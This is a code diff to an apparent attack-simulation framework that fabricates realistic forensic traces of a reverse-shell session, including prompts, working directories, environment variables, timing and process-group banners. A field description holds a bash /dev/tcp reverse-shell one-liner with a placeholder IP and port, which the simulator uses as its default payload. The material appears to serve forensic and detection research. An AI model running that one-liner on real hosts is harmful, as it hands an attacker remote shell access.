@@ -8,6 +8,7 @@ time its packet arrived.
 
 from __future__ import annotations
 
+import posixpath
 from dataclasses import dataclass
 from datetime import UTC, datetime, timedelta
 from typing import TYPE_CHECKING, Any, ClassVar
@@ -37,12 +38,44 @@ SHELLS = ("bash", "sh", "dash")
 
 @dataclass
 class ReverseSession:
-    """An open reverse shell: the connection, the shell process and the prompt it prints."""
+    """An open reverse shell: the connection, the shell process, where it is and whom it prints as."""
 
     connection: Any
     shell: MemProcess
-    prompt: str
-    action_id: str
+    user: str
+    hostname: str
+    home: str
+    cwd: str
+    oldpwd: str = ""
+
+    @property
+    def prompt(self) -> str:
+        """Ubuntu's PS1 for a non-root user: ``user@host:~/dir$ ``."""
+        shown = self.cwd
+        if self.home not in ("/", "") and (self.cwd == self.home or self.cwd.startswith(self.home + "/")):
+            shown = "~" + self.cwd[len(self.home) :]
+        return f"{self.user}@{self.hostname}:{shown}$ "
+
+    def change_directory(self, line: str) -> None:
+        """Follow `cd DIR` at the start of a command line (what the prompt and $PWD show next)."""
+        first = line.split("&&")[0].split(";")[0].strip()
+        if not (first == "cd" or first.startswith("cd ")):
+            return
+        target = first[2:].strip() or self.home
+        if target == "-":
+            target = self.oldpwd or self.cwd
+        elif target.startswith("~"):
+            target = self.home + target[1:]
+        elif not target.startswith("/"):
+            target = posixpath.join(self.cwd, target)
+        self.oldpwd, self.cwd = self.cwd, posixpath.normpath(target)
+
+    def exported(self, program: str) -> list[str]:
+        """The environment bash gives a command it runs (php-fpm cleared everything else)."""
+        env = [f"PWD={self.cwd}", "SHLVL=1"]
+        if self.oldpwd:
+            env.append(f"OLDPWD={self.oldpwd}")
+        return [*env, f"_={program}"]
 
 
 def history_time(when: datetime) -> datetime:
@@ -60,6 +93,9 @@ class ShellCommand(MemoryAction):
     shell: str = Field("admin_shell", description="handle of an interactive bash (or a reverse shell's id)")
     command: str = Field(description="the line as typed (templates allowed)")
     output: str = Field("", description="what the command printed (sent back over a reverse shell)")
+    duration: float = Field(
+        0.0, ge=0, le=3600, description="seconds the command runs before its output and the next prompt"
+    )
 
     def apply(self, ctx: StoryContext, when: datetime) -> dict[str, Any]:
         host = self.memory(ctx)
@@ -86,8 +122,10 @@ class ShellCommand(MemoryAction):
             if output and not output.endswith("\n"):
                 output += "\n"
             rng = ctx.rng("shell.command", self.id or line)
+            session.change_directory(line)
             reply = (output + session.prompt).encode()
-            connection.send("client", reply, think_us=2_000 + rng.randrange(30_000))
+            think = int(self.duration * 1_000_000) + 2_000 + rng.randrange(30_000)
+            connection.send("client", reply, think_us=think)
             ctx.network.finished(connection)
         if shell.comm == "bash":
             shell.history.append((history_time(typed_at), line))
@@ -122,6 +160,9 @@ class ShellReverse(MemoryAction):
     command: str | None = Field(
         None, description="the one-liner run by sh -c; default: bash -c 'bash -i >& /dev/tcp/IP/PORT 0>&1'"
     )
+    cwd: str | None = Field(
+        None, description="the directory the payload ran in; default /var/www/html for www-data, else home"
+    )
 
     def host_refs(self) -> list[tuple[str, str]]:
         return [("host", self.host), ("to", self.to)]
@@ -141,6 +182,9 @@ class ShellReverse(MemoryAction):
         )
         rng = ctx.rng("shell.reverse", self.id or self.host)
         user = host.account(parent.uid)
+        home = host.account(user.uid).home
+        cwd = ctx.render(self.cwd) if self.cwd else ("/var/www/html" if user.name == "www-data" else home)
+        when = when + timedelta(microseconds=rng.randrange(1_000, 900_000))
         sh = host.spawn(
             parent=parent,
             command=["sh", "-c", one_liner],
@@ -148,18 +192,21 @@ class ShellReverse(MemoryAction):
             when=when,
             exe="/usr/bin/dash",
             comm="sh",
+            env=[e for e in parent.env],
         )
-        start = when + timedelta(milliseconds=rng.randrange(2, 12))
+        # bash -c forks from sh, opens the socket for its redirection, then execs bash -i in place.
+        start = when + timedelta(microseconds=rng.randrange(2_000, 12_000))
+        opened = start + timedelta(microseconds=rng.randrange(1_000, 5_000))
         connection = runtime.tcp(
             victim,
             attacker,
             port,
-            to_us(start),
+            to_us(opened) + 100 + rng.randrange(800),
             f"shell.reverse:{self.id}:{self.host}",
         )
         connection.connect()
         socket = host.socket(
-            start,
+            opened,
             family="AF_INET",
             type="STREAM",
             state="ESTABLISHED",
@@ -168,6 +215,7 @@ class ShellReverse(MemoryAction):
             remote_addr=str(attacker.ipv4),
             remote_port=port,
         )
+        session = ReverseSession(connection, None, user.name, host.hostname, home, cwd)  # type: ignore[arg-type]
         shell = host.spawn(
             parent=sh,
             command=["bash", "-i"],
@@ -176,6 +224,7 @@ class ShellReverse(MemoryAction):
             exe="/usr/bin/bash",
             comm="bash",
             handle=self.id,
+            env=[*parent.env, *session.exported("/usr/bin/bash")],
             fds=[
                 OpenFile(0, socket=socket.inode),
                 OpenFile(1, socket=socket.inode),
@@ -183,17 +232,18 @@ class ShellReverse(MemoryAction):
                 OpenFile(255, socket=socket.inode),
             ],
         )
-        home = host.account(user.uid).home
-        cwd = "/var/www/html" if user.name == "www-data" else home
-        shown = cwd.replace(home, "~", 1) if cwd.startswith(home) and home != "/" else cwd
-        prompt = f"{user.name}@{host.hostname}:{shown}$ "
+        session.shell = shell
+        # bash reports the process group it inherited: the service's main process (php-fpm's master).
+        group = parent
+        while group.ppid not in (0, 1) and group.ppid in host.processes:
+            group = host.processes[group.ppid]
         banner = (
-            f"bash: cannot set terminal process group ({sh.pid}): Inappropriate ioctl for device\n"
-            "bash: no job control in this shell\n" + prompt
+            f"bash: cannot set terminal process group ({group.pid}): Inappropriate ioctl for device\n"
+            "bash: no job control in this shell\n" + session.prompt
         )
         connection.send("client", banner.encode(), think_us=4_000 + rng.randrange(20_000))
         runtime.finished(connection)
-        host.sessions[shell.pid] = ReverseSession(connection, shell, prompt, self.id or "")
+        host.sessions[shell.pid] = session
         facts = process_facts(host, shell)
         facts.update(
             connection_facts(runtime, connection, victim, attacker),
